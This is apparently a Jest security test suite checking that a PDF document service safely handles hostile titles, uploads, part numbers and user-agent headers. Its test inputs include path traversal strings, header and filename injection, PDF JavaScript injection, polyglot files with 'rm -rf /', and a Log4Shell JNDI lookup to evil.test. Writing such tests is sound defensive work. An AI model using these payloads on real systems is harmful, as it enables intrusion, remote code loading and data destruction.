import { expect } from '@jest/globals';
import { type Answer, verdict } from '../fixtures/app.ts';
import { ask, flatText, HAS_PDF_TOOLS, syntaxOf } from '../pdf/support.ts';
import type { Case } from './cases.ts';
import { inputAttacks } from './input-attacks.ts';
import { SYNTAX, TEXTS } from './input-texts.ts';
import { alike, type InputWorld, PDF } from './input-world.ts';

/** RFC 6266 §4.1 as this service writes it: one quoted name of plain ASCII, one of RFC 8187. */
const DISPOSITION = /^inline; filename="([ !#$&-)+-.0-9;=@-[\]-{}~]+)"; filename\*=UTF-8''([A-Za-z0-9!#$&+.^_`|~%-]+)$/;
/** What of a PDF acts, and nothing that this service makes has. */
const ACTIVE = /\/(?:JS|JavaScript|OpenAction|AA|Launch|URI|SubmitForm|ImportData|EmbeddedFile|RichMedia|XFA)\b/;
const PDF_HEADERS = { 'content-type': 'application/pdf' };

/** Titles that end a string, an object or the file where a PDF has them as they stand. */
const PDF_SYNTAX = [
  ')>>endobj 99 0 obj<</JS(app.alert(1))/S/JavaScript>>endobj',
  '(()) \\) \\( \\\\',
  '%%EOF startxref 0 %PDF-1.7',
  '<</OpenAction 1 0 R>>',
  'stream endstream endobj xref trailer',
];

/** Titles that end a header, a name, a string or a tag where they are put there as they stand. */
const TITLES = [
  '../../etc/passwd',
  '..\\..\\boot.ini',
  'C:\\Windows\\win.ini',
  '/absolute/path',
  'a"; filename="evil.exe',
  "a'; filename*=UTF-8''evil.exe",
  'a%0d%0aset-cookie: x=1',
  'a%22%3B',
  'a;b=c,d',
  'CON',
  '.htaccess',
  ' outer spaces ',
  '=HYPERLINK("http://evil.test","x")',
  ...PDF_SYNTAX,
  ...SYNTAX,
];

inputAttacks('Titles and files', documentCases);

/** The attacks by titles, texts in PDFs, and files that are no PDF. */
function documentCases(world: InputWorld): Record<string, Case> {
  const { call, attacked } = world;
  let owner: { token: string; inputs: Record<string, string> } | null = null;
  const furnished = async () => {
    if (owner !== null) return owner;
    const { token } = await attacked.register();
    const make = async (body: unknown) => (await call('POST /v1/items', { token, body })).text('id');
    const sender = await make({ type: 'person', data: { givenName: 'Ada', familyName: ')>>endobj <b>' } });
    const address = { lines: ['1 (Sample) Square'], city: 'Exampleton', country: 'GB' };
    const senderAddress = await make({ type: 'address', data: address });
    owner = { token, inputs: { sender, senderAddress } };
    return owner;
  };
  const upload = async (title: string, body: Uint8Array = PDF) => {
    const { token } = await furnished();
    const headers = { ...PDF_HEADERS, 'x-document-title': title };
    return call('POST /v1/documents', { token, body, headers });
  };
  const contentOf = async (document: Answer) => {
    const { token } = await furnished();
    return call(`GET /v1/documents/${document.text('id')}/content`, { token });
  };
  const letter = async (title: string, text: string) => {
    const { token, inputs } = await furnished();
    const fields = { recipient: title, subject: title, body: text };
    return call('POST /v1/documents', { token, body: { template: 'letter', title, inputs, fields } });
  };

  return {
    'title-hostile': async () => {
      const answers: string[] = [];
      for (const title of [...TITLES, ...TEXTS.filter((text) => !/\p{Surrogate}/u.test(text))].map((text) =>
        text.slice(0, 200),
      )) {
        const made = await upload(encodeURIComponent(title));
        expect(made.text('title')).toBe(title);
        const content = await contentOf(made);
        const [, plain = '', encoded = ''] = DISPOSITION.exec(content.headers.get('content-disposition') ?? '') ?? [];
        const name = decodeURIComponent(encoded);
        expect([title, plain.endsWith('.pdf'), name.endsWith('.pdf')]).toEqual([title, true, true]);
        expect(`${plain}${name}`).not.toMatch(/[/\\:*?"<>|\r\n\0\u202e]/);
        expect(content.headers.get('content-type')).toBe('application/pdf');
        expect(content.headers.has('set-cookie')).toBe(false);
        answers.push(`${verdict(made)}, ${verdict(content)}`);
      }
      return alike(answers);
    },
    'title-malformed': async () => {
      const { token } = await furnished();
      const answers: string[] = [];
      for (const title of [
        '%zz',
        '%',
        '%ff',
        '%ED%A0%80',
        '%C0%AF',
        'caf\u00e9',
        '',
        '%20',
        '%0d%0ax:y',
        '%00',
        'a%0ab',
      ]) {
        answers.push(verdict(await upload(title)));
      }
      answers.push(verdict(await upload('a'.repeat(201))), verdict(await upload('%41'.repeat(2000))));
      for (const title of ['', ' ', 'a\r\nb', 'a\0', 'x'.repeat(201), ['a'], { a: 1 }, 5, null]) {
        answers.push(verdict(await call('POST /v1/uploads', { token, body: { title } })));
      }
      return alike(answers);
    },
    'pdf-syntax': async () => {
      const answers: string[] = [];
      const all = TITLES.join('\n\n');
      for (const title of [...PDF_SYNTAX, 'x']) {
        const made = await letter(title, title === 'x' ? all : title);
        const { bytes } = await contentOf(made);
        expect(syntaxOf(bytes)).not.toMatch(ACTIVE);
        if (HAS_PDF_TOOLS) {
          expect(ask('qpdf', ['--check', '@'], bytes)).toContain('No syntax or stream encoding errors found');
          // pdftotext joins words at a hyphen that ends a line.
          const joined = (text: string) => text.replace(/[ -]/g, '');
          for (const text of title === 'x' ? TITLES : [title]) expect(joined(flatText(bytes))).toContain(joined(text));
        }
        answers.push(verdict(made));
      }
      return alike(answers);
    },
    'pdf-odd-text': async () => {
      const { token } = await furnished();
      const answers: string[] = [];
      for (const text of TEXTS) {
        const title = text.slice(0, 200);
        const body = { type: 'note', label: title, data: { text } };
        const items = (await call('POST /v1/items', { token, body })).text('id');
        const record = { template: 'personal-data-record', title, inputs: { items } };
        const made = await call('POST /v1/documents', { token, body: record });
        answers.push(verdict(made));
        if (made.status !== 201) continue;
        expect(made.text('title')).toBe(title);
        const { bytes } = await contentOf(made);
        if (HAS_PDF_TOOLS)
          expect(ask('qpdf', ['--check', '@'], bytes)).toContain('No syntax or stream encoding errors');
      }
      return alike(answers);
    },
    'upload-no-pdf': async () => {
      const rows = (await attacked.bucket.names()).length;
      const answers: string[] = [];
      for (const body of [
        '',
        ' ',
        '%PDF-',
        '%PDF-1.7',
        '%PDF-3.0 %%EOF',
        '%pdf-1.7 %%EOF',
        'PDF-1.7 %%EOF',
        '<html><script>alert(1)</script></html>',
        'PK\u0003\u0004',
        'MZ\u0090',
        '\u007fELF',
        '{"template":"letter"}',
        `${' '.repeat(1024)}%PDF-1.7 %%EOF`,
        `%PDF-1.7 %%EOF${' '.repeat(1024)}`,
        '\ufeff%PDF-1.7',
      ]) {
        answers.push(verdict(await upload('x', Buffer.from(body))));
      }
      expect((await attacked.bucket.names()).length).toBe(rows);
      return alike(answers);
    },
    'upload-polyglot': async () => {
      const answers: string[] = [];
      for (const head of [
        '<html><script>alert(1)</script>',
        '#!/bin/sh\nrm -rf /\n',
        'GIF89a/*',
        'PK\u0003\u0004',
        'MZ\u0090',
        '*/=1;alert(1)//',
        '\ufeff',
        ' '.repeat(1015),
      ]) {
        const bytes = Buffer.concat([Buffer.from(head), PDF, Buffer.from('<script>alert(1)</script>')]);
        const made = await upload('x', bytes);
        const content = await contentOf(made);
        expect(content.bytes.equals(bytes)).toBe(true);
        const { headers } = content;
        expect([headers.get('content-type'), headers.get('x-content-type-options')]).toEqual([
          'application/pdf',
          'nosniff',
        ]);
        answers.push(`${verdict(made)}, ${verdict(content)}`);
      }
      return alike(answers);
    },
    'upload-too-large': async () => {
      const { token } = await furnished();
      const objects = (await attacked.bucket.names()).length;
      const body = Buffer.concat([PDF, Buffer.alloc(4 * 1024 * 1024 + 1 - 2 * PDF.length, 0x20), PDF]);
      const answers = [verdict(await upload('x', body))];
      const id = (await call('POST /v1/uploads', { token, body: { title: 'x' } })).text('uploadId');
      answers.push(verdict(await call(`PUT /v1/uploads/${id}/parts/1`, { token, body, headers: PDF_HEADERS })));
      expect((await attacked.bucket.names()).length).toBe(objects);
      const fits = await upload('x', body.subarray(0, -1));
      return `${alike(answers)}; ${verdict(await upload('x', Buffer.concat([body.subarray(0, -PDF.length - 1), PDF])))}, ${verdict(fits)}`;
    },
    'part-number-forged': async () => {
      const { token } = await furnished();
      const id = (await call('POST /v1/uploads', { token, body: { title: 'x' } })).text('uploadId');
      const answers: string[] = [];
      for (const part of [
        '0',
        '-1',
        '181',
        '1.5',
        '01',
        '1e1',
        '999999999999',
        'x',
        '%31%00',
        '+1',
        '1%20',
        '__proto__',
      ]) {
        const named = `PUT /v1/uploads/${id}/parts/${part}`;
        answers.push(verdict(await call(named, { token, body: PDF, headers: PDF_HEADERS })));
      }
      expect((await call(`GET /v1/uploads/${id}`, { token })).body).toMatchObject({ parts: [] });
      return alike(answers);
    },
    'user-agent-hostile': async () => {
      const { email, password } = await attacked.register();
      const agents = [
        '<script>alert(1)</script>',
        '${jndi:ldap://evil.test/a}',
        '\u00ff\u00fe',
        'a'.repeat(8000),
        "';--",
      ];
      let token = '';
      for (const agent of agents) {
        const headers = { 'user-agent': agent };
        token = (await call('POST /v1/sessions', { body: { email, password }, headers })).text('session.token');
      }
      const list = await call('GET /v1/sessions', { token });
      const seen = (list.body as { sessions: { userAgent: string }[] }).sessions.map(({ userAgent }) => userAgent);
      for (const agent of agents) expect(seen).toContain(agent.slice(0, 256));
      expect(list.headers.get('content-type')).toBe('application/json');
      return verdict(list);
    },
  };
}
